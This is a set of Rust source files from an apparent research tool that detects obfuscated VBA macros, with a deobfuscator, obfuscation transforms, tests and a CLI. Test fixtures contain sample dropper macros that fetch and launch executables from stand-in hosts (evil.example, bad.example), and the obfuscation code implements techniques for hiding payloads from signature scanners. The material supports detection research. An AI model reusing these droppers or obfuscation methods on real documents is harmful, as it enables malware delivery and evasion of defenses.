}

/// Pass 2: remove `If False Then … End If` blocks and single-line
/// `If False Then <statement>` lines.
fn remove_dead_blocks(source: &str) -> (String, usize) {
    let mut out = String::with_capacity(source.len());
    let mut removed = 0usize;
    let mut skipping = false;
    let mut depth = 0usize;
    for line in source.split_inclusive('\n') {
        let lower = line.trim().to_ascii_lowercase();
        if skipping {
            if lower.starts_with("if ") && lower.ends_with(" then") {
                depth += 1;
            } else if lower == "end if" {
                if depth == 0 {
                    skipping = false;
                    continue;
                }
                depth -= 1;
            }
            continue;
        }
        if lower == "if false then" {
            skipping = true;
            depth = 0;
            removed += 1;
            continue;
        }
        if lower.starts_with("if false then ") {
            removed += 1;
            continue;
        }
        out.push_str(line);
    }
    (out, removed)
}

/// Pass 3: remove `Private Sub`/`Private Function` definitions whose name is
/// never referenced outside their own body. Entry-point names are kept
/// regardless.
fn remove_unused_private_procs(source: &str) -> (String, usize) {
    let analysis = MacroAnalysis::new(source);
    let spans = analysis.procedure_body_spans();
    if spans.is_empty() {
        return (source.to_string(), 0);
    }

    // Reference counts of each identifier outside every procedure span are
    // expensive to split exactly; instead count occurrences globally and
    // inside the definition, and compare.
    let tokens = tokenize(source);
    let count_in = |name: &str, lo: usize, hi: usize| -> usize {
        tokens
            .iter()
            .filter(|t| t.start >= lo && t.end <= hi)
            .filter(|t| matches!(&t.kind, TokenKind::Identifier(i) if i.eq_ignore_ascii_case(name)))
            .count()
    };

    let mut to_remove: Vec<(usize, usize)> = Vec::new();
    let mut removed = 0usize;
    for &(lo, hi) in &spans {
        // The span starts at the `Sub`/`Function` keyword; widen to the
        // start of its line so the `Private` modifier is visible (and
        // removed along with the body).
        let line_start = source[..lo].rfind('\n').map(|p| p + 1).unwrap_or(0);
        let header_end = source[lo..hi].find('\n').map(|p| lo + p).unwrap_or(hi);
        let header = &source[line_start..header_end];
        let lower = header.trim_start().to_ascii_lowercase();
        // Removable: private procedures, and plain `Function`s (a function
        // that is never *called* is inert — this is what orphans decoder
        // functions after string folding). Public `Sub`s are kept: buttons
        // and ribbon hooks can invoke them by name from outside the text.
        let name_index =
            if lower.starts_with("private sub") || lower.starts_with("private function") {
                2
            } else if lower.starts_with("function ") {
                1
            } else {
                continue;
            };
        // Name = next word, stripping the parameter list ("Used()" -> "Used").
        let name: Option<String> = header.split_whitespace().nth(name_index).map(|w| {
            w.chars()
                .take_while(|c| c.is_alphanumeric() || *c == '_')
                .collect()
        });
        let Some(name) = name.filter(|n| !n.is_empty()) else {
            continue;
        };
        if crate::names::is_entry_point(&name) {
            continue;
        }
        let total = count_in(&name, 0, source.len());
        let inside = count_in(&name, line_start, hi);
        if total == inside {
            to_remove.push((line_start, hi));
            removed += 1;
        }
    }

    let mut out = source.to_string();
    for (lo, hi) in to_remove.into_iter().rev() {
        // Also eat the trailing newline if present.
        let end = if out[hi..].starts_with("\r\n") {
            hi + 2
        } else if out[hi..].starts_with('\n') {
            hi + 1
        } else {
            hi
        };
        out.replace_range(lo..end, "");
    }
    (out, removed)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Obfuscator, Technique};
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    const DROPPER: &str = "Sub AutoOpen()\r\n\
        Dim target As String\r\n\
        target = \"http://evil.example/stage.exe\"\r\n\
        Shell \"cmd /c start \" & target, 0\r\n\
        End Sub\r\n";

    #[test]
    fn folds_split_strings_back_to_literals() {
        let mut rng = StdRng::seed_from_u64(1);
        let obf = crate::split::apply(DROPPER, &mut rng);
        assert!(!obf.contains("\"http://evil.example/stage.exe\""));
        let report = deobfuscate(&obf);
        assert!(report.folded_strings > 0);
        assert!(
            report.source.contains("\"http://evil.example/stage.exe\""),
            "{}",
            report.source
        );
    }

    #[test]
    fn folds_encoded_strings_and_removes_orphan_decoder() {
        for seed in 0..10 {
            let mut rng = StdRng::seed_from_u64(seed);
            let obf = crate::encoding::apply(DROPPER, &mut rng);
            let report = deobfuscate(&obf);
            assert!(
                report.source.contains("\"http://evil.example/stage.exe\""),
                "seed {seed}:\n{}",
                report.source
            );
            // If the decoder-function scheme was used, the decoder must be
            // gone after folding orphaned it.
            assert!(
                !report.source.to_ascii_lowercase().contains("end function"),
                "seed {seed}: decoder survived:\n{}",
                report.source
            );
        }
    }

    #[test]
    fn removes_dead_if_false_blocks() {
        let src = "Sub A()\r\n\
                   x = 1\r\n\
                   If False Then\r\n\
                       leftover = \"never\"\r\n\
                   End If\r\n\
                   y = 2\r\n\
                   End Sub\r\n";
        let report = deobfuscate(src);
        assert_eq!(report.removed_dead_blocks, 1);
        assert!(!report.source.contains("never"));
        assert!(report.source.contains("x = 1") && report.source.contains("y = 2"));
    }

    #[test]
    fn keeps_truthy_conditionals() {
        let src = "Sub A()\r\nIf ready Then\r\n    x = 1\r\nEnd If\r\nEnd Sub\r\n";
        let report = deobfuscate(src);
        assert_eq!(report.removed_dead_blocks, 0);
        assert!(report.source.contains("x = 1"));
    }

    #[test]
    fn removes_unreferenced_private_procs_only() {
        let src = "Sub Main()\r\n    Call Used\r\nEnd Sub\r\n\
                   Private Sub Used()\r\n    x = 1\r\nEnd Sub\r\n\
                   Private Sub Orphan()\r\n    y = 2\r\nEnd Sub\r\n";
        let report = deobfuscate(src);
        assert_eq!(report.removed_procedures, 1);
        assert!(report.source.contains("Sub Used"));
        assert!(!report.source.contains("Orphan"));
    }

    #[test]
    fn logic_obfuscation_is_substantially_reverted() {
        let mut rng = StdRng::seed_from_u64(5);
        let obf = Obfuscator::new()
            .with(Technique::LogicWithIntensity(40))
            .apply(DROPPER, &mut rng)
            .source;
        assert!(obf.len() > DROPPER.len() * 3);
        let report = deobfuscate(&obf);
        assert!(report.removed_procedures > 0);
        // Most of the bloat must be gone, and the payload intact.
        assert!(
            report.source.len() < obf.len() / 2,
            "{} -> {}",
            obf.len(),
            report.source.len()
        );
        assert!(report.source.contains("AutoOpen"));
        assert!(report.source.contains("http://evil.example/stage.exe"));
    }

    #[test]
    fn full_pipeline_restores_signature_visibility() {
        // The end-to-end claim: obfuscation breaks naive signature matching,
        // de-obfuscation restores it (for the string-level techniques).
        let mut rng = StdRng::seed_from_u64(11);
        let obf = Obfuscator::new()
            .with(Technique::Split)
            .with(Technique::Encoding)
            .with(Technique::LogicWithIntensity(25))
            .apply(DROPPER, &mut rng)
            .source;
        assert!(!obf.contains("http://evil.example/stage.exe"));
        let report = deobfuscate(&obf);
        assert!(report.source.contains("http://evil.example/stage.exe"));
        assert!(report.source.contains("cmd /c start "));
    }

    #[test]
    fn idempotent_on_clean_code() {
        let report = deobfuscate(DROPPER);
        assert_eq!(report.folded_strings, 0);
        assert_eq!(report.removed_dead_blocks, 0);
        assert_eq!(report.removed_procedures, 0);
        assert_eq!(report.source, DROPPER);
    }

    #[test]
    fn total_on_arbitrary_text() {
        let _ = deobfuscate("");
        let _ = deobfuscate("If False Then");
        let _ = deobfuscate("Private Sub");
        let _ = deobfuscate("\"unterminated");
    }
}
