//! O1 — Random obfuscation: replace user identifiers with random strings
//! (paper §III.B.1, Figure 2).

use crate::names;
use rand::Rng;
use std::collections::{HashMap, HashSet};

/// Applies O1 to `source`, returning the transformed code and the rename map
/// (lowercased original → new name).
pub fn apply<R: Rng + ?Sized>(source: &str, rng: &mut R) -> (String, HashMap<String, String>) {
    apply_fraction(source, 1.0, rng)
}

/// Applies O1 to a random subset of the renameable identifiers: real
/// obfuscators (and hurried attackers) frequently rename only the payload's
/// variables, leaving template code readable. `fraction` ∈ [0, 1].
pub fn apply_fraction<R: Rng + ?Sized>(
    source: &str,
    fraction: f64,
    rng: &mut R,
) -> (String, HashMap<String, String>) {
    let targets = names::renameable_identifiers(source);
    let mut taken: HashSet<String> = targets.iter().map(|n| n.to_ascii_lowercase()).collect();
    let mut map = HashMap::with_capacity(targets.len());
    for name in &targets {
        if fraction < 1.0 && !rng.gen_bool(fraction.clamp(0.0, 1.0)) {
            continue;
        }
        let new_name = names::random_identifier(rng, &mut taken);
        map.insert(name.to_ascii_lowercase(), new_name);
    }
    (names::apply_renames(source, &map), map)
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;
    use vbadet_vba::{tokenize, TokenKind};

    const SRC: &str = "Sub DownloadFile()\r\n\
        Dim remoteUrl As String\r\n\
        Dim localPath As String\r\n\
        remoteUrl = \"http://evil.example/x.exe\"\r\n\
        localPath = Environ(\"TEMP\") & \"\\x.exe\"\r\n\
        URLDownloadToFile 0, remoteUrl, localPath, 0, 0\r\n\
        End Sub\r\n";

    #[test]
    fn all_user_identifiers_are_renamed() {
        let mut rng = StdRng::seed_from_u64(42);
        let (out, map) = apply(SRC, &mut rng);
        assert!(!out.contains("remoteUrl"));
        assert!(!out.contains("localPath"));
        assert!(!out.contains("DownloadFile"));
        assert_eq!(map.len(), 3);
        // Builtins survive.
        assert!(out.contains("URLDownloadToFile"));
        assert!(out.contains("Environ"));
        // Strings survive.
        assert!(out.contains("http://evil.example/x.exe"));
    }

    #[test]
    fn token_structure_is_preserved() {
        let mut rng = StdRng::seed_from_u64(9);
        let (out, _) = apply(SRC, &mut rng);
        let before = tokenize(SRC);
        let after = tokenize(&out);
        assert_eq!(before.len(), after.len());
        for (b, a) in before.iter().zip(after.iter()) {
            match (&b.kind, &a.kind) {
                (TokenKind::Identifier(_), TokenKind::Identifier(_)) => {}
                (x, y) => assert_eq!(x, y, "non-identifier tokens must be untouched"),
            }
        }
    }

    #[test]
    fn consistent_within_module() {
        let mut rng = StdRng::seed_from_u64(5);
        let src = "Sub A()\r\nDim x\r\nx = 1\r\nx = x + 1\r\nEnd Sub\r\n";
        let (out, map) = apply(src, &mut rng);
        let new_x = &map["x"];
        assert_eq!(out.matches(new_x.as_str()).count(), 4);
    }

    #[test]
    fn deterministic_for_same_seed() {
        let a = apply(SRC, &mut StdRng::seed_from_u64(123)).0;
        let b = apply(SRC, &mut StdRng::seed_from_u64(123)).0;
        assert_eq!(a, b);
    }

    #[test]
    fn entry_point_names_survive() {
        let src = "Sub Document_Open()\r\nCall Work\r\nEnd Sub\r\nSub Work()\r\nEnd Sub\r\n";
        let mut rng = StdRng::seed_from_u64(2);
        let (out, _) = apply(src, &mut rng);
        assert!(out.contains("Document_Open"));
        assert!(!out.contains("Work"));
    }
}
