//! O4 — Logic obfuscation: insert dummy code and reorder procedures
//! (paper §III.B.4).
//!
//! The transform inflates code size with semantically dead material:
//! unused variable declarations and assignments, no-op loops, `If False`
//! blocks, never-called helper functions — and shuffles the order of
//! top-level procedures. `intensity` controls the volume so the corpus can
//! reproduce the code-length clusters of Figure 5(b).

use rand::Rng;
use std::collections::HashSet;

/// How much dummy code to inject, roughly in statements.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Intensity(pub usize);

impl Default for Intensity {
    fn default() -> Self {
        Intensity(20)
    }
}

/// Applies O4 to `source` with the given intensity (a total dummy-statement
/// budget). A small share is injected into existing procedure bodies; the
/// bulk becomes never-called helper procedures sized like ordinary
/// hand-written ones, so the module's function-structure statistics stay
/// unremarkable while the code balloons.
pub fn apply<R: Rng + ?Sized>(source: &str, intensity: Intensity, rng: &mut R) -> String {
    let mut taken: HashSet<String> = HashSet::new();
    let (header, mut procedures, trailer) = split_procedures(source);

    // 1. Light insertions into existing bodies (at most 3 per procedure).
    let insert_budget = (intensity.0 / 5).min(3 * procedures.len());
    let mut spent = 0usize;
    if !procedures.is_empty() {
        let per_proc = (insert_budget / procedures.len()).clamp(0, 3);
        if per_proc > 0 {
            for proc in procedures.iter_mut() {
                let dummies = dummy_statements(per_proc, rng, &mut taken);
                if let Some(pos) = end_of_signature_line(proc) {
                    proc.insert_str(pos, &dummies);
                    spent += per_proc;
                }
            }
        }
    }

    // 2. The rest of the budget becomes dummy helper procedures.
    let mut remaining = intensity.0.saturating_sub(spent);
    while remaining > 0 {
        let body = rng.gen_range(4..12).min(remaining.max(4));
        procedures.push(dummy_procedure_sized(body, rng, &mut taken));
        remaining = remaining.saturating_sub(body);
    }

    // 3. Reorder procedures.
    for i in (1..procedures.len()).rev() {
        procedures.swap(i, rng.gen_range(0..=i));
    }

    let mut out = header;
    for proc in procedures {
        out.push_str(&proc);
    }
    out.push_str(&trailer);
    out
}

/// Splits a module into (header before first procedure, procedures, trailer
/// after the last `End Sub`/`End Function`). Line-based: adequate for the
/// generated corpus and tolerant of anything else.
fn split_procedures(source: &str) -> (String, Vec<String>, String) {
    let mut header = String::new();
    let mut procedures: Vec<String> = Vec::new();
    let mut trailer = String::new();
    let mut current: Option<String> = None;
    let mut depth = 0usize;

    for line in source.split_inclusive('\n') {
        let lower = line.trim_start().to_ascii_lowercase();
        let opens = (lower.starts_with("sub ")
            || lower.starts_with("function ")
            || lower.starts_with("public sub ")
            || lower.starts_with("private sub ")
            || lower.starts_with("public function ")
            || lower.starts_with("private function "))
            && !lower.starts_with("end");
        let closes = lower.starts_with("end sub") || lower.starts_with("end function");

        match (&mut current, opens, closes) {
            (None, true, _) => {
                current = Some(line.to_string());
                depth = 1;
            }
            (Some(buf), _, true) => {
                buf.push_str(line);
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    procedures.push(current.take().expect("current is Some"));
                }
            }
            (Some(buf), _, _) => buf.push_str(line),
            (None, false, _) => {
                if procedures.is_empty() {
                    header.push_str(line);
                } else {
                    trailer.push_str(line);
                }
            }
        }
    }
    if let Some(buf) = current {
        // Unterminated procedure: keep as-is.
        procedures.push(buf);
    }
    (header, procedures, trailer)
}

/// Byte offset just past the procedure's signature line.
fn end_of_signature_line(proc: &str) -> Option<usize> {
    proc.find('\n').map(|p| p + 1)
}

fn dummy_statements<R: Rng + ?Sized>(
    count: usize,
    rng: &mut R,
    taken: &mut HashSet<String>,
) -> String {
    const FILLER_COMMENTS: [&str; 8] = [
        "check the value first",
        "update internal state",
        "TODO review this section",
        "keep for compatibility",
        "refresh the cache",
        "validate before use",
        "legacy path below",
        "see ticket 4821",
    ];
    let mut out = String::new();
    for _ in 0..count {
        // Obfuscation tooling frequently copies comment templates along with
        // the dummy statements; without these, a bare comment count would be
        // a give-away rather than the obfuscation mechanisms themselves.
        if rng.gen_bool(0.12) {
            let c = FILLER_COMMENTS[rng.gen_range(0..FILLER_COMMENTS.len())];
            out.push_str(&format!("    ' {c}\r\n"));
        }
        match rng.gen_range(0..4) {
            0 => {
                let v = crate::names::random_identifier(rng, taken);
                let n: u32 = rng.gen_range(0..100_000);
                out.push_str(&format!("    Dim {v} As Long\r\n    {v} = {n}\r\n"));
            }
            1 => {
                let v = crate::names::random_identifier(rng, taken);
                let lo: u32 = rng.gen_range(1..10);
                let hi: u32 = lo + rng.gen_range(1..40);
                out.push_str(&format!(
                    "    Dim {v} As Integer\r\n    For {v} = {lo} To {hi}\r\n        DoEvents\r\n    Next {v}\r\n"
                ));
            }
            2 => {
                let v = crate::names::random_identifier(rng, taken);
                out.push_str(&format!(
                    "    If False Then\r\n        {v} = \"never\"\r\n    End If\r\n"
                ));
            }
            _ => {
                let v = crate::names::random_identifier(rng, taken);
                let w = crate::names::random_identifier(rng, taken);
                out.push_str(&format!("    Dim {v} As String\r\n    {v} = \"{w}\"\r\n"));
            }
        }
    }
    out
}

fn dummy_procedure_sized<R: Rng + ?Sized>(
    statements: usize,
    rng: &mut R,
    taken: &mut HashSet<String>,
) -> String {
    let name = crate::names::random_identifier(rng, taken);
    let body = dummy_statements(statements, rng, taken);
    format!("\r\nPrivate Sub {name}()\r\n{body}End Sub\r\n")
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    const SRC: &str = "Attribute VB_Name = \"Module1\"\r\n\
        Sub Alpha()\r\n    x = 1\r\nEnd Sub\r\n\
        Sub Beta()\r\n    y = 2\r\nEnd Sub\r\n";

    #[test]
    fn code_grows_with_intensity() {
        let mut rng = StdRng::seed_from_u64(1);
        let small = apply(SRC, Intensity(5), &mut rng);
        let mut rng = StdRng::seed_from_u64(1);
        let large = apply(SRC, Intensity(200), &mut rng);
        assert!(small.len() > SRC.len());
        assert!(large.len() > small.len() * 3);
    }

    #[test]
    fn original_statements_survive() {
        let mut rng = StdRng::seed_from_u64(2);
        let out = apply(SRC, Intensity::default(), &mut rng);
        assert!(out.contains("x = 1"));
        assert!(out.contains("y = 2"));
        assert!(out.contains("Sub Alpha()"));
        assert!(out.contains("Sub Beta()"));
        assert!(out.contains("Attribute VB_Name"));
    }

    #[test]
    fn header_stays_first() {
        let mut rng = StdRng::seed_from_u64(3);
        let out = apply(SRC, Intensity::default(), &mut rng);
        assert!(out.starts_with("Attribute VB_Name = \"Module1\""));
    }

    #[test]
    fn procedures_are_reordered_for_some_seed() {
        let mut reordered = false;
        for seed in 0..20 {
            let mut rng = StdRng::seed_from_u64(seed);
            let out = apply(SRC, Intensity(2), &mut rng);
            let alpha = out.find("Sub Alpha").unwrap();
            let beta = out.find("Sub Beta").unwrap();
            if beta < alpha {
                reordered = true;
                break;
            }
        }
        assert!(reordered, "no seed reordered the two procedures");
    }

    #[test]
    fn balanced_sub_end_sub() {
        let mut rng = StdRng::seed_from_u64(5);
        let out = apply(SRC, Intensity(50), &mut rng);
        let subs = out.to_ascii_lowercase().matches("\nsub ").count()
            + out.to_ascii_lowercase().matches("sub alpha").count().min(1)
            + out.to_ascii_lowercase().matches("private sub").count();
        let ends = out.to_ascii_lowercase().matches("end sub").count();
        // Every procedure must be closed.
        assert!(ends >= 2, "subs ~{subs}, ends {ends}\n{out}");
        let a = vbadet_vba::MacroAnalysis::new(&out);
        assert!(a.procedure_body_spans().len() >= 2);
    }

    #[test]
    fn split_procedures_partitions_source() {
        let (header, procs, trailer) = split_procedures(SRC);
        assert_eq!(procs.len(), 2);
        let rebuilt = format!("{header}{}{trailer}", procs.concat());
        assert_eq!(rebuilt, SRC);
    }

    #[test]
    fn module_without_procedures_is_preserved() {
        let src = "Attribute VB_Name = \"M\"\r\n' only comments\r\n";
        let mut rng = StdRng::seed_from_u64(6);
        let out = apply(src, Intensity(10), &mut rng);
        assert!(out.contains("' only comments"));
        // Dummy helper procedures are still appended.
        assert!(out.to_ascii_lowercase().contains("private sub"));
    }
}
