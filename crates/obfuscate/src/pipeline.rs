//! Composable obfuscation pipeline.

use crate::{encoding, logic, random, split};
use rand::Rng;
use std::collections::HashMap;

/// One of the paper's four obfuscation techniques (Table I).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Technique {
    /// O1 — randomize identifier names.
    Random,
    /// O2 — split string literals.
    Split,
    /// O3 — encode string literals.
    Encoding,
    /// O4 — insert dummy code and reorder procedures (default intensity).
    Logic,
    /// O4 with explicit intensity (approximate dummy-statement count).
    LogicWithIntensity(usize),
}

/// Output of an obfuscation run.
#[derive(Debug, Clone)]
pub struct ObfuscationResult {
    /// The transformed source code.
    pub source: String,
    /// The techniques applied, in order.
    pub applied: Vec<Technique>,
    /// O1 rename map (lowercased original → new), empty if O1 was not run.
    pub renames: HashMap<String, String>,
}

/// Applies a configurable sequence of obfuscation techniques.
///
/// Techniques are applied in the order given; the conventional order used by
/// real obfuscators (and by the corpus generator) is O2/O3 on strings first,
/// then O4 bulking, then O1 renaming — but any order is legal.
///
/// ```
/// use rand::SeedableRng;
/// use vbadet_obfuscate::{Obfuscator, Technique};
/// let mut rng = rand::rngs::StdRng::seed_from_u64(1);
/// let result = Obfuscator::new()
///     .with(Technique::Encoding)
///     .with(Technique::LogicWithIntensity(40))
///     .with(Technique::Random)
///     .apply("Sub A()\r\n    x = \"secret\"\r\nEnd Sub\r\n", &mut rng);
/// assert!(!result.source.contains("secret"));
/// ```
#[derive(Debug, Clone, Default)]
pub struct Obfuscator {
    techniques: Vec<Technique>,
}

impl Obfuscator {
    /// Creates an empty pipeline (applying it is the identity).
    pub fn new() -> Self {
        Self::default()
    }

    /// Appends a technique to the pipeline.
    pub fn with(mut self, technique: Technique) -> Self {
        self.techniques.push(technique);
        self
    }

    /// The configured techniques, in application order.
    pub fn techniques(&self) -> &[Technique] {
        &self.techniques
    }

    /// Runs the pipeline over `source`.
    pub fn apply<R: Rng + ?Sized>(&self, source: &str, rng: &mut R) -> ObfuscationResult {
        let mut current = source.to_string();
        let mut renames = HashMap::new();
        for &technique in &self.techniques {
            match technique {
                Technique::Random => {
                    let (next, map) = random::apply(&current, rng);
                    current = next;
                    renames.extend(map);
                }
                Technique::Split => current = split::apply(&current, rng),
                Technique::Encoding => current = encoding::apply(&current, rng),
                Technique::Logic => {
                    current = logic::apply(&current, logic::Intensity::default(), rng)
                }
                Technique::LogicWithIntensity(n) => {
                    current = logic::apply(&current, logic::Intensity(n), rng)
                }
            }
        }
        ObfuscationResult {
            source: current,
            applied: self.techniques.clone(),
            renames,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    const SRC: &str = "Sub Payload()\r\n\
        Dim target As String\r\n\
        target = \"http://bad.example/a.exe\"\r\n\
        Shell \"cmd /c start\" & target, 0\r\n\
        End Sub\r\n";

    #[test]
    fn empty_pipeline_is_identity() {
        let mut rng = StdRng::seed_from_u64(0);
        let out = Obfuscator::new().apply(SRC, &mut rng);
        assert_eq!(out.source, SRC);
        assert!(out.renames.is_empty());
    }

    #[test]
    fn full_pipeline_composes_all_techniques() {
        let mut rng = StdRng::seed_from_u64(99);
        let out = Obfuscator::new()
            .with(Technique::Split)
            .with(Technique::Encoding)
            .with(Technique::LogicWithIntensity(30))
            .with(Technique::Random)
            .apply(SRC, &mut rng);
        // The URL is gone (split then encoded).
        assert!(!out.source.contains("http://bad.example/a.exe"));
        // The variable was renamed.
        assert!(!out.source.contains("target"));
        assert!(out.renames.contains_key("target"));
        // The code grew substantially (logic obfuscation).
        assert!(out.source.len() > SRC.len() * 4);
        // Builtins survive all stages.
        assert!(out.source.contains("Shell"));
    }

    #[test]
    fn deterministic_given_seed() {
        let pipeline = Obfuscator::new()
            .with(Technique::Encoding)
            .with(Technique::Random);
        let a = pipeline.apply(SRC, &mut StdRng::seed_from_u64(5)).source;
        let b = pipeline.apply(SRC, &mut StdRng::seed_from_u64(5)).source;
        assert_eq!(a, b);
    }

    #[test]
    fn different_seeds_differ() {
        let pipeline = Obfuscator::new().with(Technique::Random);
        let a = pipeline.apply(SRC, &mut StdRng::seed_from_u64(1)).source;
        let b = pipeline.apply(SRC, &mut StdRng::seed_from_u64(2)).source;
        assert_ne!(a, b);
    }
}
