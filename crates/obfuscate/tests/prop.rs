//! Property-based tests for the obfuscation transforms: semantic
//! preservation (string recovery), structural invariants, and totality.

use proptest::prelude::*;
use rand::rngs::StdRng;
use rand::SeedableRng;
use vbadet_obfuscate::{recover, Obfuscator, Technique};

/// A printable string literal value without quotes or backslash tangles.
fn arb_literal() -> impl Strategy<Value = String> {
    "[a-zA-Z0-9 ._/:-]{4,40}"
}

fn module_with_strings(values: &[String]) -> String {
    let mut body = String::new();
    for (i, v) in values.iter().enumerate() {
        body.push_str(&format!("    s{i} = \"{v}\"\r\n"));
    }
    format!("Sub Document_Open()\r\n{body}End Sub\r\n")
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    /// O2: every original string value is recoverable from the split form.
    #[test]
    fn split_preserves_values(values in proptest::collection::vec(arb_literal(), 1..6), seed in any::<u64>()) {
        let src = module_with_strings(&values);
        let mut rng = StdRng::seed_from_u64(seed);
        let out = vbadet_obfuscate::split::apply(&src, &mut rng);
        let recovered = recover::recover_strings(&out);
        for v in &values {
            prop_assert!(recovered.iter().any(|r| r == v), "{v:?} lost in {out}");
        }
    }

    /// O3: same for encoding, across all schemes.
    #[test]
    fn encoding_preserves_values(values in proptest::collection::vec(arb_literal(), 1..6), seed in any::<u64>()) {
        let src = module_with_strings(&values);
        let mut rng = StdRng::seed_from_u64(seed);
        let out = vbadet_obfuscate::encoding::apply(&src, &mut rng);
        let recovered = recover::recover_strings(&out);
        for v in &values {
            prop_assert!(recovered.iter().any(|r| r == v), "{v:?} lost in {out}");
        }
    }

    /// O1: non-identifier tokens are untouched; renames are consistent.
    #[test]
    fn rename_preserves_non_identifiers(values in proptest::collection::vec(arb_literal(), 1..4), seed in any::<u64>()) {
        let src = module_with_strings(&values);
        let mut rng = StdRng::seed_from_u64(seed);
        let (out, _) = vbadet_obfuscate::random::apply(&src, &mut rng);
        // Strings and keywords unchanged.
        let before = vbadet_vba::MacroAnalysis::new(&src);
        let after = vbadet_vba::MacroAnalysis::new(&out);
        prop_assert_eq!(before.strings(), after.strings());
        prop_assert_eq!(
            before.tokens().iter().filter(|t| matches!(t.kind, vbadet_vba::SpanKind::Keyword)).count(),
            after.tokens().iter().filter(|t| matches!(t.kind, vbadet_vba::SpanKind::Keyword)).count()
        );
        // Entry point survives.
        prop_assert!(out.contains("Document_Open"));
    }

    /// O4: all original statements survive; procedures stay balanced.
    #[test]
    fn logic_preserves_original_statements(
        values in proptest::collection::vec(arb_literal(), 1..4),
        intensity in 1usize..60,
        seed in any::<u64>(),
    ) {
        let src = module_with_strings(&values);
        let mut rng = StdRng::seed_from_u64(seed);
        let out = vbadet_obfuscate::logic::apply(
            &src,
            vbadet_obfuscate::logic::Intensity(intensity),
            &mut rng,
        );
        for (i, v) in values.iter().enumerate() {
            let statement = format!("s{i} = \"{v}\"");
            prop_assert!(out.contains(&statement));
        }
        // Grown, and structurally balanced: the dummy code never contains
        // the `Sub` keyword, so each procedure contributes exactly two
        // (`Sub …` + `End Sub`).
        prop_assert!(out.len() > src.len());
        let analysis = vbadet_vba::MacroAnalysis::new(&out);
        let sub_keywords = analysis
            .tokens()
            .iter()
            .filter(|t| {
                matches!(t.kind, vbadet_vba::SpanKind::Keyword)
                    && analysis.token_text(t).eq_ignore_ascii_case("sub")
            })
            .count();
        prop_assert_eq!(sub_keywords % 2, 0, "unbalanced Sub keywords in {}", out);
        prop_assert_eq!(analysis.procedure_body_spans().len(), sub_keywords / 2);
    }

    /// The full pipeline is deterministic in the seed and total on
    /// printable input.
    #[test]
    fn pipeline_deterministic(src in "[ -~\r\n]{0,600}", seed in any::<u64>()) {
        let pipeline = Obfuscator::new()
            .with(Technique::Split)
            .with(Technique::Encoding)
            .with(Technique::LogicWithIntensity(4))
            .with(Technique::Random);
        let a = pipeline.apply(&src, &mut StdRng::seed_from_u64(seed)).source;
        let b = pipeline.apply(&src, &mut StdRng::seed_from_u64(seed)).source;
        prop_assert_eq!(a, b);
    }

    /// recover_strings is total on arbitrary text.
    #[test]
    fn recover_total(src in "\\PC{0,1500}") {
        let _ = recover::recover_strings(&src);
    }
}
