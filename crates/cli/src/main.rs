//! `vbadet` — command-line obfuscated-VBA-macro scanner.
//!
//! ```text
//! vbadet scan <file>...           scan documents, print per-module verdicts
//! vbadet extract <file>           dump extracted macro source to stdout
//! vbadet obfuscate <file.vba>     obfuscate VBA source (O1-O4) to stdout
//! vbadet corpus --out DIR         write a synthetic document corpus to disk
//! vbadet evaluate                 run the Table V cross-validation
//! ```

mod commands;

use std::process::ExitCode;

/// Live-heap tracking for `--max-scan-mem-mb`: installed process-wide so
/// both the in-process engines and `--isolate` worker re-executions of
/// this binary can trip the memory ceiling as a typed outcome.
#[global_allocator]
static ALLOC: vbadet::TrackingAllocator = vbadet::TrackingAllocator;

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let (command, rest) = match args.split_first() {
        Some((c, rest)) => (c.as_str(), rest),
        None => {
            eprintln!("{}", usage());
            return ExitCode::from(2);
        }
    };
    if command == vbadet::scan::isolate::WORKER_SUBCOMMAND {
        // Hidden subcommand: this process is an isolation worker, driven
        // over stdin/stdout by a supervising `vbadet scan --isolate` or
        // `vbadet serve`. Ignore SIGINT and SIGTERM so signals delivered
        // to the whole process group (terminal Ctrl-C, a service
        // manager's stop) let the supervisor drain gracefully instead of
        // reaping a batch of killed workers; the supervisor retires
        // workers itself via their exit frames.
        ignore_drain_signals();
        return ExitCode::from(vbadet::worker_main() as u8);
    }
    let result: Result<ExitCode, Box<dyn std::error::Error>> = match command {
        "scan" => commands::scan(rest),
        "serve" => commands::serve(rest),
        "extract" => commands::extract(rest).map(|()| ExitCode::SUCCESS),
        "obfuscate" => commands::obfuscate(rest).map(|()| ExitCode::SUCCESS),
        "deobfuscate" => commands::deobfuscate(rest).map(|()| ExitCode::SUCCESS),
        "corpus" => commands::corpus(rest).map(|()| ExitCode::SUCCESS),
        "evaluate" => commands::evaluate(rest).map(|()| ExitCode::SUCCESS),
        "train" => commands::train(rest).map(|()| ExitCode::SUCCESS),
        "help" | "--help" | "-h" => {
            println!("{}", usage());
            Ok(ExitCode::SUCCESS)
        }
        other => Err(format!("unknown command: {other}\n{}", usage()).into()),
    };
    match result {
        Ok(code) => code,
        Err(e) => {
            eprintln!("error: {e}");
            ExitCode::from(2)
        }
    }
}

#[cfg(unix)]
fn ignore_drain_signals() {
    extern "C" {
        fn signal(signum: i32, handler: usize) -> usize;
    }
    const SIGHUP: i32 = 1;
    const SIGINT: i32 = 2;
    const SIGTERM: i32 = 15;
    const SIG_IGN: usize = 1;
    unsafe {
        // SIGHUP joins the ignore list: a process-group HUP asking the
        // serve daemon to hot-reload its model must not kill the
        // daemon's workers out from under it — the supervisor retires
        // them itself, lazily, with the new generation's hello.
        signal(SIGHUP, SIG_IGN);
        signal(SIGINT, SIG_IGN);
        signal(SIGTERM, SIG_IGN);
    }
}

#[cfg(not(unix))]
fn ignore_drain_signals() {}

fn usage() -> &'static str {
    "vbadet — obfuscated VBA macro detection (DSN 2018 reproduction)

USAGE:
    vbadet scan [--scale F] [--classifier NAME] [--limits default|strict]
                [--deadline-ms N] [--fuel N] [--ladder] [--jobs N]
